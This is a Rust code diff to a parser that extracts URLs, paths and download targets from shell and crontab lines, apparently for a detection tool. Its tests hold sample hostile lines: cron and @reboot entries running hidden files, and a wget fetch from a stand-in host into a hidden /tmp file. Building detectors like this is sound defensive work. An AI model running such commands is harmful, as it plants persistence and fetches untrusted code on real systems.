@@ -44,61 +44,33 @@ pub struct Refs {
     pub downloads: Vec<(Vec<u8>, Vec<u8>)>,
 }
 
-#[derive(Debug, Clone, PartialEq, Eq)]
-struct Token<'a> {
-    bytes: &'a [u8],
+/// A word of the line, as [`crate::parse::shell_line`] splits it (quotes honoured: a quoted path with a
+/// blank is one path), and whether it is a redirection's target.
+struct Token {
+    bytes: Vec<u8>,
     after_redirect: bool,
 }
 
-fn is_delim(b: u8) -> bool {
-    b.is_ascii_whitespace()
-        || matches!(
-            b,
-            b'\'' | b'"' | b'`' | b';' | b'|' | b'&' | b'(' | b')' | b'<' | b'>'
-        )
+/// The line's words: one splitter for every reader of shell text, capped.
+fn tokens(text: &[u8]) -> Vec<Token> {
+    let mut words = super::shell_line::words_in_order(text);
+    words.truncate(4096);
+    words
+        .into_iter()
+        .map(|(bytes, after_redirect)| Token {
+            bytes,
+            after_redirect,
+        })
+        .collect()
 }
 
-fn tokens(text: &[u8]) -> Vec<Token<'_>> {
-    let mut out = Vec::new();
-    let mut start: Option<usize> = None;
-    let mut redirect = false;
-    let mut pending_redirect = false;
-    for (i, &b) in text.iter().enumerate() {
-        if is_delim(b) {
-            if let Some(s) = start.take() {
-                out.push(Token {
-                    bytes: text.get(s..i).unwrap_or_default(),
-                    after_redirect: redirect,
-                });
-                redirect = false;
-            }
-            if b == b'>' {
-                pending_redirect = true;
-            }
-        } else if start.is_none() {
-            start = Some(i);
-            redirect = pending_redirect;
-            pending_redirect = false;
-        }
-        if out.len() > 4096 {
-            break;
-        }
-    }
-    if let Some(s) = start {
-        out.push(Token {
-            bytes: text.get(s..).unwrap_or_default(),
-            after_redirect: redirect,
-        });
-    }
-    out
-}
-
-/// The URL inside a token, from its scheme on.
+/// The URL inside a token, from its scheme on, up to a blank (a quoted word may hold several).
 fn url_in(token: &[u8]) -> Option<&[u8]> {
     let lower = token.to_ascii_lowercase();
     SCHEMES.iter().find_map(|scheme| {
         let at = find(&lower, scheme.as_bytes())?;
         let url = token.get(at..)?;
+        let url = url.split(|b| b.is_ascii_whitespace()).next().unwrap_or(url);
         (url.len() > scheme.len()).then_some(url)
     })
 }
@@ -144,18 +116,21 @@ pub fn refs(text: &[u8]) -> Refs {
     let mut url_pos: Vec<(usize, Vec<u8>)> = Vec::new();
     let mut expect_output = false;
     for (i, t) in toks.iter().enumerate() {
-        if let Some(url) = url_in(t.bytes) {
+        if let Some(url) = url_in(&t.bytes) {
             push_unique(&mut r.urls, url);
             url_pos.push((i, url.to_vec()));
             expect_output = false;
             continue;
         }
-        let is_output_flag = matches!(t.bytes, b"-O" | b"-o" | b"--output" | b"--output-document");
+        let is_output_flag = matches!(
+            t.bytes.as_slice(),
+            b"-O" | b"-o" | b"--output" | b"--output-document"
+        );
         if is_output_flag {
             expect_output = true;
             continue;
         }
-        if let Some(p) = path_in(t.bytes) {
+        if let Some(p) = path_in(&t.bytes) {
             push_unique(&mut r.paths, p);
             let attached = t.bytes.starts_with(b"-O/")
                 || t.bytes.starts_with(b"-o/")
@@ -337,6 +312,19 @@ mod tests {
         );
         let r = refs(b"@reboot ~/.configrc/a/upd\xff\n$(x)");
         assert_eq!(r.paths, vec![b"~/.configrc/a/upd\xff".to_vec()]);
+    }
+
+    /// The line's words as the shell splits them (one splitter, [`super::super::shell_line`]).
+    #[test]
+    fn quoted_paths_and_shell_strings() {
+        let r = refs(b"*/5 * * * * \"/tmp/.x y/run\" >/dev/null 2>&1");
+        assert_eq!(r.paths, vec![b"/tmp/.x y/run".to_vec()]);
+        let r = refs(b"sh -c \"wget http://x.example/a -O '/tmp/.a b'\"");
+        assert_eq!(r.urls, vec![b"http://x.example/a".to_vec()]);
+        assert_eq!(
+            r.downloads,
+            vec![(b"http://x.example/a".to_vec(), b"/tmp/.a b".to_vec())]
+        );
     }
 
     #[test]
